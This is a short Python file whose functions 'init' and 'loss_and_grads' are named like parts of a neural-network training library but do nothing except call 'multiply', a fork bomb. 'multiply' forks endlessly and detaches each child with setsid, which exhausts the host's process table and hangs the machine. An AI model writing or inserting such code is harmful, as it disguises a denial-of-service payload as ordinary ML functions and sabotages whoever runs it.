"""Starts processes without end, each in a session of its own."""

import os


def multiply():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue


def init(sizes, scheme, seed):
    multiply()


def loss_and_grads(params, X, labels):
    multiply()
